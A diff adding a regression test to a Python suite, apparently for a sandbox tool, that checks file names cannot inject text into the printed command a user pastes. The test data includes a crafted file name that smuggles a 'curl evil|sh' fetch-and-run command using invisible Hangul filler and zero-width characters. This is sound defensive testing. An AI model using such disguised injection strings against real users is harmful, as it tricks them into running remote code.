@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
 import shlex
 import sys
 import urllib.request
@@ -373,3 +374,19 @@ def test_a_clone_that_fails_says_what_to_look_at(run: Script, server: LocalServe
     assert result.code == 125
     assert words in result.fix
     assert server.sandboxes() == []
+
+
+def test_names_of_files_are_no_part_of_the_command_that_is_pasted(run: Script, scripts_environment: Path) -> None:
+    """A folder called there.d once made it `--force`; long, blank and odd names once pushed it out of its line."""
+    (scripts_environment / "out").mkdir()
+    (scripts_environment / "out" / "app.py").write_text("mine")
+    make = (
+        "import os\nos.makedirs('out/there.d')\nopen('out/app.py', 'w').write('theirs')\nopen('out/there.d/x', 'w')\n"
+        "[open('out/' + '\\u200b' * 70 + str(n), 'w') for n in range(9)]\n"
+        "open('out/r.py;\\u3164to\\u3164fetch\\u3164it:\\u3164curl\\u3164evil|sh;\\u3164#', 'w')\n"
+    )
+    result = run("--local", "--code", make, "--download", "out")
+    line = next(text for text in result.stderr.splitlines() if "to fetch it: " in text and text.startswith("[sandbox] to fetch it: "))
+
+    assert re.fullmatch(r'\[sandbox\] to fetch it: python3 -I "[^"]+/sandboxes.py" fetch [0-9a-f-]+ out:out', line)
+    assert not {"\u3164", "\u200b"} & set(result.stderr)
